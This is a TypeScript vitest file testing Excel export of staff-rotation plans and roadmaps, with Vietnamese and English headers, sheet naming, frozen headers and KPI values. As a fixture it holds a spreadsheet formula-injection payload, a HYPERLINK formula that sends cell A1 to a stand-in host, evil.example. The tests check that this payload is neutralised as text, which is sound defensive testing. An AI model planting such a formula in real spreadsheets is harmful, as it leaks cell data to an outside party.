import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWeeklyPlan, type WeeklyPlan } from '../../src/core/optimize/weekly-plan.ts';
import type { Db } from '../../src/store/db.ts';
import { readXlsx, sheetName, writeXlsx } from '../../src/usecases/xlsx.ts';
import { type TestApi, testApi } from '../helpers/api.ts';
import { pgliteBackend } from '../helpers/backends.ts';
import { weeklyPlanFixture } from '../helpers/weekly-plan-fixture.ts';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn A")';

describe('GET /plans/:id/xlsx', () => {
  let db: Db;
  let t: TestApi;
  let plan: WeeklyPlan;
  beforeAll(async () => {
    db = await pgliteBackend.open();
    t = await testApi(db);
    plan = buildWeeklyPlan(weeklyPlanFixture());
    expect(plan.roster.moves.length).toBeGreaterThan(0);
    // One moved person's name is a formula: it must arrive as text in every sheet.
    const victim = plan.roster.moves[0]!.staff_id;
    for (const m of plan.roster.moves) if (m.staff_id === victim) m.name = EVIL;
    for (const e of plan.roster.entries) if (e.staff_id === victim) e.name = EVIL;
    await db.query(
      `INSERT INTO plans (id, week, parameters, inputs, kpis, result) VALUES ($1, $2, '{}', '{}', $3, $4)`,
      ['plan-xlsx-a', plan.week, JSON.stringify(plan.kpis), JSON.stringify(plan)],
    );
  });
  afterAll(async () => {
    await t.app.close();
    await db.close();
  });

  it('has the moves, one sheet per day, the KPIs and utilisation, in Vietnamese by default', async () => {
    const res = await t.as('viewer', '/plans/plan-xlsx-a/xlsx');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toContain('plan-xlsx-a.xlsx');
    const wb = await readXlsx(res.rawPayload);
    const days = plan.days.map((d) => `${d.slice(8, 10)}-${d.slice(5, 7)}-${d.slice(0, 4)}`);
    expect([...wb.keys()]).toEqual(['Điều động', ...days, 'Chỉ tiêu', 'Hiệu suất']);
    const moves = wb.get('Điều động')!;
    expect(moves[0]).toEqual([
      'Ngày',
      'Mã cán bộ',
      'Họ và tên',
      'Từ điểm',
      'Tên điểm đi',
      'Đến điểm',
      'Tên điểm đến',
      'Phút di chuyển',
      'Lý do',
    ]);
    expect(moves.length - 1).toBe(plan.roster.moves.length);
    // Dates are real dates (shown dd/mm/yyyy), reasons in Vietnamese.
    const first = [...plan.roster.moves].sort((a, b) => a.date.localeCompare(b.date))[0]!;
    expect(moves[1]![0]).toBeInstanceOf(Date);
    expect((moves[1]![0] as Date).toISOString().slice(0, 10)).toBe(first.date);
    expect(String(moves[1]![8])).toMatch(/[ạảãáàâăơưđ]/);
    // The formula name is text with a leading apostrophe, not a formula object.
    const evil = moves.find((r) => String(r[2]).includes('HYPERLINK'))!;
    expect(evil[2]).toBe(`'${EVIL}`);
    for (const [, rows] of wb)
      for (const r of rows)
        for (const c of r) expect(typeof c === 'object' && c !== null && 'formula' in c).toBe(false);
    // Each day sheet lists every roster entry of that day.
    for (const [i, d] of plan.days.entries())
      expect(wb.get(days[i]!)!.length - 1).toBe(plan.roster.entries.filter((e) => e.date === d).length);
    const kpis = wb.get('Chỉ tiêu')!;
    expect(kpis.find((r) => r[0] === 'Số ngày công điều động')![1]).toBe(plan.kpis.moves);
    expect(kpis.find((r) => r[0] === 'Mức phục vụ sau điều động (%)')![1]).toBeCloseTo(
      plan.kpis.service_level.after * 100,
      1,
    );
  });

  it('answers English headers when asked, 404 for an unknown plan', async () => {
    const res = await t.as('viewer', {
      url: '/plans/plan-xlsx-a/xlsx',
      headers: { 'accept-language': 'en' },
    });
    const wb = await readXlsx(res.rawPayload);
    expect([...wb.keys()][0]).toBe('moves');
    expect(wb.get('moves')![0]![0]).toBe('date');
    expect((await t.as('viewer', '/plans/nope/xlsx')).statusCode).toBe(404);
    expect((await t.as(undefined, '/plans/plan-xlsx-a/xlsx')).statusCode).toBe(401);
  });
});

describe('xlsx writer', () => {
  it('freezes the header row, sets widths and keeps sheet names Excel accepts', async () => {
    const buf = await writeXlsx([
      {
        name: 'a/b:c*d?e[f]g\\h and a name far longer than thirty-one characters',
        columns: [
          { header: 'x', width: 30 },
          { header: 'n', kind: 'int' },
          { header: 'd', kind: 'date' },
        ],
        rows: [
          ['@SUM(1)', 3, '2026-01-05'],
          ['-2', -2, null],
        ],
      },
    ]);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.name).toHaveLength(31);
    expect(ws.name).not.toMatch(/[[\]:*?/\\]/);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getColumn(1).width).toBe(30);
    expect(ws.getRow(2).getCell(1).value).toBe("'@SUM(1)");
    // A plain negative number written as text stays that text (a spreadsheet reads a number, not a formula).
    expect(ws.getRow(3).getCell(1).value).toBe('-2');
    expect(ws.getRow(3).getCell(2).value).toBe(-2);
    expect(ws.getRow(2).getCell(3).numFmt).toBe('dd/mm/yyyy');
    const taken = new Set<string>();
    expect([sheetName('Tuần', taken), sheetName('tuần', taken)]).toEqual(['Tuần', 'tuần 2']);
  });
});

describe('roadmap workbook', () => {
  it('goes through the same writer: a formula name is neutralised', async () => {
    const { roadmapXlsx } = await import('../../src/usecases/roadmap.ts');
    const result = {
      roadmap: {
        status: 'optimal',
        quarters: [
          {
            label: '2026-Q2',
            start: '2026-04-01',
            transfers: [
              {
                staff_id: 'S1',
                name: EVIL,
                from: 'P1',
                to: 'P2',
                minutes: 12,
                fields: ['land'],
                reason: 'x',
              },
            ],
            utilisation: [],
          },
        ],
      },
      curve: [],
    } as unknown as Parameters<typeof roadmapXlsx>[0];
    const wb = await readXlsx(await roadmapXlsx(result, 'vi'));
    expect([...wb.keys()]).toEqual(['Điều chuyển', 'Đường đánh đổi', 'Hiệu suất']);
    expect(wb.get('Điều chuyển')![1]![2]).toBe(`'${EVIL}`);
    expect(wb.get('Điều chuyển')![1]![5]).toBe(12);
  });
});
